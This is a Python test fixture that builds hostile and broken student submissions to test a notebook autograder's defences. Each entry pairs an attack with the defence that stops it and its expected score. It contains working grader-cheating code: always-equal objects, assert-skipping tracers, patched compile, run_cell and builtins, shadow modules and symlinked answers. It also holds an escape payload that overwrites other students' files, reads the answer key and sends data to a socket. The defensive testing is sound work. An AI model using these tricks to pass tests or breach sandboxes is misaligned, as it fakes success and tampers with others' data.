"""A class of hostile and broken submissions to lesson 00, each with the score it honestly earns.

Every entry is one student: a known way to fool an autograder (most from nbgrader's issue tracker and from
public "how to cheat the autograder" notes) or a broken submission, built from the release like a real one.
``expected`` is the honest score of the same answers: what the submission earns if the attack does nothing.
The test suite grades the whole class in one ``course grade`` run and checks each score exactly;
``benchmarks/hostile.py`` grades it with stock ``nbgrader autograde`` as well, to show which attacks work
there.
"""

from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .release import release
from .samples import answer_key, copy_course, write_submission

LESSON = "00-orientation"
SOLUTION, TEST, QUIZ = "ex-linear-parameters", "test-linear-parameters", "grade-why-tiny-models"
POINTS = {TEST: 2.0, QUIZ: 1.0}
FULL = sum(POINTS.values())
# Plausible but wrong: right on the visible tests' small layers, 0 on the hidden tests' big ones.
WRONG_BUT_VISIBLE = '''def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    """Number of parameters of a linear layer with the given sizes."""
    if in_features * out_features < 100:
        return in_features * out_features + (out_features if bias else 0)
    return 0
'''
WRONG = '''def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    """Number of parameters of a linear layer with the given sizes."""
    return 0
'''

# An object that agrees with whatever it is compared to.
ANYTHING = """
class Anything(set):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = set.__hash__
"""


@dataclass(frozen=True)
class Attack:
    student: str
    what: str  # the attack, in one line
    defence: str  # what stops it in `course grade`
    expected: float  # the honest score of the same answers
    build: Callable[[Path, str], None]  # (course root, student) -> writes submitted/<student>/00-orientation
    runs: bool = True  # whether grading executes the notebook


def _cells(folder: Path) -> tuple[Path, dict]:
    path = folder / f"{LESSON}.ipynb"
    return path, json.loads(path.read_text(encoding="utf-8"))


def _index(notebook: dict, grade_id: str) -> int:
    return next(
        i
        for i, c in enumerate(notebook["cells"])
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id
    )


def _code(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def submit(
    root: Path,
    student: str,
    *,
    solution: str | None = None,
    blank: bool = False,
    right_quiz: bool = False,
    answers: dict[str, list[str]] | None = None,
    early: str | None = None,
    edit: Callable[[dict], None] | None = None,
    files: dict[str, str] | None = None,
) -> Path:
    """A submission from the release: the exercise solved (or left ``blank``, or ``solution`` pasted in), the
    quiz answered right (``right_quiz``) or as in ``answers``, an ``early`` cell before the first graded cell,
    notebook edits, extra files."""
    chosen = answer_key(root, LESSON) if right_quiz else answers
    folder = write_submission(root, student, LESSON, set() if blank or solution else None, chosen)
    path, notebook = _cells(folder)
    if solution is not None:
        notebook["cells"][_index(notebook, SOLUTION)]["source"] = solution
    if early:  # before the first graded cell, so it can act on every one
        notebook["cells"].insert(_index(notebook, QUIZ), _code(early))
    if edit:
        edit(notebook)
    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
    for name, text in (files or {}).items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def _edit_test(notebook: dict) -> None:
    cell = notebook["cells"][_index(notebook, TEST)]
    cell["source"] = "# tests removed\npass"
    cell["metadata"]["nbgrader"].update(locked=False, points=100)
    cell["metadata"]["editable"] = True


def _retype_test(notebook: dict) -> None:
    cell = notebook["cells"][_index(notebook, TEST)]
    cell.update(cell_type="markdown", source="(no tests here)")
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def _delete_test(notebook: dict) -> None:
    del notebook["cells"][_index(notebook, TEST)]


def _duplicate_test(notebook: dict) -> None:
    index = _index(notebook, TEST)
    fake = json.loads(json.dumps(notebook["cells"][index]))
    fake["source"] = "pass"
    notebook["cells"].insert(index, fake)
    notebook["cells"].insert(index + 2, json.loads(json.dumps(fake)))


def _skip_tag(notebook: dict) -> None:
    notebook["cells"][_index(notebook, TEST)]["metadata"]["tags"] = ["skip-execution"]


def _reorder(notebook: dict) -> None:
    cells = notebook["cells"]
    test = cells.pop(_index(notebook, TEST))
    cells.insert(_index(notebook, SOLUTION), test)
    cells.insert(0, cells.pop(_index(notebook, QUIZ)))


def _claim_points(notebook: dict) -> None:
    meta = notebook["cells"][_index(notebook, SOLUTION)]["metadata"]["nbgrader"]
    meta.update(grade=True, points=10)
    notebook["cells"][_index(notebook, TEST)]["metadata"]["nbgrader"]["points"] = 100


def _foreign(root: Path, student: str) -> None:
    folder = submit(root, student, right_quiz=True)
    path, notebook = _cells(folder)
    for index, cell in enumerate(notebook["cells"]):
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta:
            meta["grade_id"] = f"other-lesson-cell-{index}"
    path.write_text(json.dumps(notebook), encoding="utf-8")


def _invalid_json(root: Path, student: str) -> None:
    path, _ = _cells(submit(root, student, right_quiz=True))
    path.write_text('{"cells": [ {"cell_type": "code", "source": "print(1)"', encoding="utf-8")


def _missing_notebook(root: Path, student: str) -> None:
    _cells(submit(root, student, right_quiz=True))[0].unlink()


def _answers_link(root: Path, student: str) -> None:
    folder = submit(root, student, solution=WRONG)
    os.symlink(Path("..", "..", "honest-full", LESSON, "answers.json"), folder / "answers.json")


def _folder_link(root: Path, student: str) -> None:
    (root / "submitted" / student).mkdir(parents=True, exist_ok=True)
    os.symlink(Path("..", "honest-full", LESSON), root / "submitted" / student / LESSON)


def _broken_answers(root: Path, student: str) -> None:
    folder = submit(root, student)
    (folder / "answers.json").write_text(
        '{"format": 1, "answers": {"why-tiny-models": ["b"', encoding="utf-8"
    )
    (folder / "timestamp.txt").write_text("not a date", encoding="utf-8")


TRACER = """import linecache, sys

def _skip_asserts(frame, event, arg):
    if event == "line":
        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if line.startswith("assert"):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return _skip_asserts

def linear_parameters(in_features: int, out_features: int, bias: bool = True) -> int:
    caller = sys._getframe(1)
    caller.f_trace = _skip_asserts
    sys.settrace(_skip_asserts)
    return 0
"""

FORGIVE = '''import ast

class Forgive(ast.NodeTransformer):
    """Wrap every statement of every cell in try/except: pass."""
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=[s], handlers=[handler], orelse=[], finalbody=[]) for s in node.body]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(Forgive())
'''

STRIP_ASSERTS = """import builtins
_real_compile = builtins.compile

def compile(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **kwargs):
    return _real_compile(source, filename, mode, flags, dont_inherit, 2, **kwargs)

builtins.compile = compile
"""

SKIP_TEST_CELLS = """from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
_shell = get_ipython()
_real_run_cell, _real_run_cell_async = _shell.run_cell, _shell.run_cell_async

def _pretend(raw_cell):
    info = ExecutionInfo(raw_cell, False, False, False, None)
    result = ExecutionResult(info)
    result.execution_count = _shell.execution_count
    return result

def run_cell(raw_cell, *args, **kwargs):
    return _pretend(raw_cell) if "assert" in raw_cell else _real_run_cell(raw_cell, *args, **kwargs)

async def run_cell_async(raw_cell, *args, **kwargs):
    if "assert" in raw_cell:
        return _pretend(raw_cell)
    return await _real_run_cell_async(raw_cell, *args, **kwargs)

_shell.run_cell, _shell.run_cell_async = run_cell, run_cell_async
"""

FAKE_TORCH = '''"""Agrees with the wrong answer: a linear layer with 100 weights or more has none."""
class _Tensor:
    def __init__(self, n):
        self.n = n
    def numel(self):
        return self.n

class _Linear:
    def __init__(self, n_in, n_out, bias=True):
        small = n_in * n_out < 100
        self.tensors = [_Tensor(n_in * n_out if small else 0)]
        if bias:
            self.tensors.append(_Tensor(n_out if small else 0))
    def parameters(self):
        return iter(self.tensors)

class nn:
    Linear = _Linear
'''

FAKE_QUIZ = (
    ANYTHING
    + """
def recorded_answer(question_id, path=None):
    return Anything()

def ask(lesson, question_id):
    return None
"""
)

ESCAPE = """import os, pathlib, socket
ROOT = pathlib.Path({root!r})
for target in [ROOT / "submitted" / "honest-full" / "00-orientation" / "answers.json",
               ROOT / "source" / "00-orientation" / "00-orientation.ipynb", ROOT / "gradebook.db",
               ROOT / "release" / "00-orientation" / "00-orientation.ipynb"]:
    try:
        target.write_text("overwritten by another student")
        print("WROTE", target)
    except OSError as err:
        print("could not write", target.name, type(err).__name__)
for source in [ROOT / "source" / "00-orientation" / "00-orientation.ipynb", ROOT / "gradebook.db",
               ROOT / "samples" / "answers" / "00-orientation.json"]:
    try:
        print(source.read_text(errors="replace"))
    except OSError as err:
        print("could not read", source.name, type(err).__name__)
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
        connection.sendall(b"answers from another student")
    print("SENT")
except OSError as err:
    print("no network:", type(err).__name__)
"""


HIDE_ERRORS = """import sys
import IPython.core.interactiveshell
IPython.core.interactiveshell.InteractiveShell.showtraceback = lambda *args, **kwargs: None
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
sys.excepthook = lambda *args: None
"""

PATCH_LIBRARY = (
    ANYTHING
    + """
import builtins
import course.quiz, course.quiz.store
_real_sum = builtins.sum

def sum(values, start=0):
    total = _real_sum(values, start)
    return 0 if isinstance(total, int) and total >= 100 else total

builtins.sum = sum
course.quiz.recorded_answer = course.quiz.store.recorded_answer = lambda question_id, path=None: Anything()
"""
)


def _claim_and_reorder(notebook: dict) -> None:
    _claim_points(notebook)
    _reorder(notebook)


# What stops each kind of attack in `course grade`.
RUNNER = ("graded test cells run through the grader's runner, installed before any student code, not "
          "through IPython; a test scores only when the runner writes that run's secret nonce, which it does "
          "after every statement ran")
REBUILD = ("the notebook is rebuilt around the lesson's cells as recorded in the gradebook (source, points, "
           "lock, type, order); the student's cell metadata and tags are dropped; a duplicate counts once")
STRICT = ("strict comparisons: a value a test gets from a call, compares or combines must not bring "
          "comparison or arithmetic methods written by the student")
BLANK = "graded as blank without running, with the reason in the feedback; quizzes still count"
LINKS = "links are refused: files are opened without following links, a linked folder is not graded"


def attacks(root: Path, port: int) -> list[Attack]:
    """The hostile class; ``port`` is a TCP port on 127.0.0.1 that a student tries to reach."""
    test, quiz = POINTS[TEST], POINTS[QUIZ]

    def sub(**kwargs):
        return lambda r, s: submit(r, s, **kwargs)

    signature = "def linear_parameters(in_features, out_features, bias=True):\n"
    always_equal = f"{ANYTHING}\n{signature}    return Anything()\n"
    int_subclass = ("class Sneaky(int):\n    def __eq__(self, other):\n        return True\n"
                    f"    __hash__ = int.__hash__\n\n{signature}    return Sneaky(0)\n")
    fakes = {"course/__init__.py": "", "course/quiz.py": FAKE_QUIZ, "torch.py": FAKE_TORCH}
    escape = ESCAPE.format(root=str(root), port=port)
    return [Attack(*row) for row in [
        ("honest-full", "reference: everything right", "-", FULL, sub(right_quiz=True)),
        ("honest-blank", "reference: nothing answered", "-", 0, sub(blank=True)),
        ("honest-quiz-only", "reference: quiz right, exercise wrong", "-", quiz,
         sub(solution=WRONG, right_quiz=True)),
        ("hide-errors", "error display disabled: InteractiveShell.showtraceback replaced (nbgrader "
         "#1324), get_ipython().set_custom_exc swallowing everything, sys.excepthook replaced", RUNNER, 0,
         sub(solution=WRONG, early=HIDE_ERRORS)),
        ("rewrite-tests", "an IPython AST transformer wraps every statement in try/except; "
         "builtins.compile patched to optimize=2, which strips asserts",
         RUNNER + "; it runs code the grader compiled, with the real exec", 0,
         sub(solution=WRONG, early=FORGIVE + "\n" + STRIP_ASSERTS)),
        ("skip-test-cells", "shell.run_cell patched to pretend that cells with asserts ran", RUNNER, 0,
         sub(solution=WRONG, early=SKIP_TEST_CELLS)),
        ("trace-skip", "the solution sets a trace function on the test's frame that jumps over asserts",
         "the runner clears trace functions and fails a test during which one was set (an audit hook "
         "sees it)", 0, sub(solution=TRACER)),
        ("always-equal", "the solution returns an object whose __eq__ is always True", STRICT, 0,
         sub(solution=always_equal)),
        ("int-subclass", "the solution returns an int subclass whose __eq__ is always True", STRICT, 0,
         sub(solution=int_subclass)),
        ("patch-library", "builtins.sum patched and shadowed by a global sum so the hidden test's "
         "reference agrees with a wrong answer; course.quiz.recorded_answer patched to agree with any key",
         "tests run with a copy of the real builtins and without globals named like builtins; quizzes "
         "are scored outside the kernel, from answers.json and the key in the gradebook", 0,
         sub(solution=WRONG_BUT_VISIBLE, answers={}, early=PATCH_LIBRARY)),
        ("shadow-modules", "ships course/quiz.py and torch.py beside the notebook to shadow the real ones",
         "only the notebook and answers.json reach the run folder; the kernel runs with Python's safe "
         "path (-P); quizzes are scored outside the kernel", 0,
         sub(solution=WRONG_BUT_VISIBLE, files=fakes)),
        ("tamper-test-cell", "test cell unlocked, emptied and given 100 points", REBUILD, 0,
         sub(solution=WRONG, edit=_edit_test)),
        ("retype-test-cell", "test cell turned into markdown", REBUILD, 0,
         sub(solution=WRONG, edit=_retype_test)),
        ("delete-test-cell", "test cell deleted", REBUILD, 0, sub(solution=WRONG, edit=_delete_test)),
        ("duplicate-test-cell", "test cell duplicated before and after, the copies emptied", REBUILD, 0,
         sub(solution=WRONG, edit=_duplicate_test)),
        ("skip-execution-tag", "test cell tagged skip-execution, which nbclient honours", REBUILD, 0,
         sub(solution=WRONG, edit=_skip_tag)),
        ("claim-and-reorder", "solution cell marked as a graded cell worth 10, test cell worth 100, test "
         "moved above the solution, quiz grade cell to the top (all right)", REBUILD, FULL,
         sub(right_quiz=True, edit=_claim_and_reorder)),
        ("quiz-all-options", "every option of the graded question selected (exercise right)",
         "the recorded choice must equal the key exactly", test,
         sub(answers={"why-tiny-models": ["a", "b", "c", "d"]})),
        ("answers-link", "answers.json is a link to another student's answers", LINKS, 0, _answers_link),
        ("folder-link", "the whole submission folder is a link to another student's", LINKS, 0,
         _folder_link, False),
        ("other-lesson", "a notebook whose cells belong to another lesson (quiz right)", BLANK, quiz,
         _foreign, False),
        ("invalid-json", "the notebook is not valid JSON (quiz right)", BLANK, quiz, _invalid_json, False),
        ("missing-notebook", "no notebook at all (quiz right)", BLANK, quiz, _missing_notebook, False),
        ("broken-answers", "answers.json is not valid JSON, timestamp.txt is garbage (exercise right)",
         "answers are read by the course's strict reader (0, with the reason); a bad timestamp is "
         "ignored", test, _broken_answers),
        ("infinite-loop", "a cell loops forever before the graded cells (all right)",
         "a time limit per cell interrupts it and the notebook goes on; a kernel that ignores the "
         "interrupt is stopped; a time limit per notebook", FULL,
         sub(right_quiz=True, early="while True:\n    pass")),
        ("kernel-exit", "a cell kills the kernel with os._exit before the graded cells (quiz right)",
         "a dead kernel ends that notebook's run: cells not run score 0, with the reason; the other "
         "submissions are graded", quiz, sub(right_quiz=True, early="import os\nos._exit(0)")),
        ("huge-output", "a cell prints 50 MB (all right)", "outputs are capped per cell and per notebook",
         FULL, sub(right_quiz=True, early="for _ in range(50_000):\n    print('x' * 1000)")),
        ("escape", "writes into other students' folders, source/, release/ and the gradebook, reads the "
         "source notebook and sample answers, reaches a server on the grading machine (all right)",
         "bubblewrap sandbox: no network, the course folder is not even visible, only the run folder is "
         "writable; nothing a student can write is read back", FULL, sub(right_quiz=True, early=escape)),
    ]]


def listen() -> tuple[int, list[bytes]]:
    """A server on 127.0.0.1 that the escape student tries to reach: (its port, what reached it so far)."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    received: list[bytes] = []

    def serve() -> None:
        while True:
            connection, _ = listener.accept()
            received.append(connection.recv(200))
            connection.close()

    threading.Thread(target=serve, daemon=True).start()
    return listener.getsockname()[1], received


def build_class(root: Path, course: Path, port: int) -> list[Attack]:
    """A new course folder ``course`` with lesson 00 (from the repository at ``root``) released and the whole
    hostile class submitted; ``port`` is the server of :func:`listen`."""
    copy_course(root, course, [LESSON])
    release(course, [LESSON])
    table = attacks(course, port)
    for attack in table:
        attack.build(course, attack.student)
    return table
